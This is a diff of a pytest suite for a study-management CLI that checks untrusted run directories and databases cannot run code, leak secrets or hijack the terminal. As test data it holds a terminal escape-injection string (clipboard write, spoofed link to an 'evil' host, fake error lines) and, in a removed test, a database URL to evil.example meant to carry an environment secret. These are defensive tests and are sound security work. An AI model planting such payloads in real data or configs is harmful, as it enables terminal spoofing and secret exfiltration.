@@ -1,7 +1,6 @@
 """Looking at somebody else's run directory and database: nothing runs, nothing outside is touched,
 and no text of theirs controls a terminal. All with real commands."""
 
-import os
 import re
 import shlex
 import shutil
@@ -26,13 +25,6 @@ NASTY = (
     "a\x1b[2J\x1b]0;t\x07\x1b]52;c;aGk=\x07\x1b]8;;http://evil\x07l\x9b31m\u202egpj\ud800\x00\x7f\r"
     "error: fake\nerror: fake\n2 of 2 trials"
 )
-VERBS = (("status",), ("trials",), ("report",), ("status", "--json"))
-
-
-@pytest.fixture(scope="module")
-def elsewhere(tmp_path_factory):
-    """The environment of somebody for whom every run directory here is from elsewhere."""
-    return {"XDG_STATE_HOME": str(tmp_path_factory.mktemp("state"))}
 
 
 @pytest.fixture(scope="module")
@@ -44,28 +36,9 @@ def made(tmp_path_factory):
     return run_dir
 
 
-@pytest.fixture
-def run_dir(made, tmp_path):
-    """A copy of it."""
-    shutil.copytree(made, tmp_path / "run")
-    return tmp_path / "run"
-
-
-def tree(folder):
-    """What lies below a folder: kinds, contents, targets of links."""
-    return {
-        path: os.readlink(path) if path.is_symlink() else path.is_file() and path.read_bytes()
-        for path in folder.rglob("*")
-    }
-
-
-# The command and the database that a run directory names
-
-
-def test_a_recorded_configuration_is_not_composed_unless_it_is_ones_own(
-    run_dir, elsewhere, tmp_path
-):
-    canary, conf = tmp_path / "canary", tmp_path / "evil"
+def test_a_recorded_configuration_is_not_composed_unless_it_is_ones_own(made, tmp_path):
+    run_dir, canary, conf = tmp_path / "run", tmp_path / "canary", tmp_path / "evil"
+    shutil.copytree(made, run_dir)
     conf.mkdir()
     (conf / "mnist.yaml").write_text(
         "defaults: [studyloom, {data: mnist5k}, {model: mlp}, {optimizer: adamw}, "
@@ -85,23 +58,8 @@ def test_a_recorded_configuration_is_not_composed_unless_it_is_ones_own(
     assert not canary.exists()
     assert (done.returncode, done.stdout) == (2, "")
     assert re.fullmatch(r"error: .*no command of yours.*--trust-config\n", done.stderr)
-    done = studyloom("winner", run_dir, "--trust-config", **elsewhere)
+    done = studyloom("winner", run_dir, "--trust-config", XDG_STATE_HOME=str(tmp_path / "state"))
     assert canary.exists(), done.stderr
-
-
-def test_a_database_elsewhere_is_opened_only_with_consent(run_dir, elsewhere, tmp_path):
-    create_study(f"sqlite:///{tmp_path}/other.db", "mnist", {"asks": "this"}, 1).close()
-    (run_dir / "study.db").unlink()
-    config = yaml.safe_load((run_dir / ".hydra" / "config.yaml").read_text())
-    for url in (f"sqlite:///{tmp_path}/other.db", "postgresql://evil.example/${oc.env:SECRET}"):
-        config["storage"]["url"] = url
-        (run_dir / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
-        before = tree(tmp_path)
-        done = studyloom("status", run_dir, SECRET="hunter2", **elsewhere)
-        assert done.returncode == 2
-        assert "--trust-config" in done.stderr
-        assert "hunter2" not in done.stderr
-        assert tree(tmp_path) == before
 
 
 # Text
@@ -134,14 +92,13 @@ def nasty(made, tmp_path):
 
 
 def test_no_text_of_a_database_controls_the_terminal_or_pretends_to_be_ours(nasty):
-    run_dir = nasty
-    for verb, *options in VERBS:
-        done = studyloom(verb, run_dir, *options)
+    for verb, *options in (("status",), ("trials",), ("report",), ("status", "--json")):
+        done = studyloom(verb, nasty, *options)
         assert done.returncode == 0, (verb, done.stderr)
         for text in (done.stdout, done.stderr):
             assert text == printable(text), verb
             assert not re.search("^(error: fake|2 of 2)", text, re.MULTILINE), verb
-    page = (run_dir / "report.html").read_text()
+    page = (nasty / "report.html").read_text()
     body = page.partition("<body>")[2].partition("<script>")[0]
     assert "fake" in body
     assert body == printable(body)
@@ -172,6 +129,5 @@ def test_a_terminal_without_utf_8_shows_what_it_can(tmp_path):
     done = command(f"study run_dir={tmp_path}/run", **plain)
     assert done.returncode == 0, done.stderr
     assert "1 of 1 trials ? 1 complete" in done.stdout
-    for verb in ("status", "trials", "report", "doctor"):
-        done = command(f"studyloom {verb} {tmp_path}/run", **plain)
-        assert (done.returncode, done.stderr) == (0, ""), verb
+    done = command(f"studyloom status {tmp_path}/run", **plain)
+    assert (done.returncode, done.stderr) == (0, "")
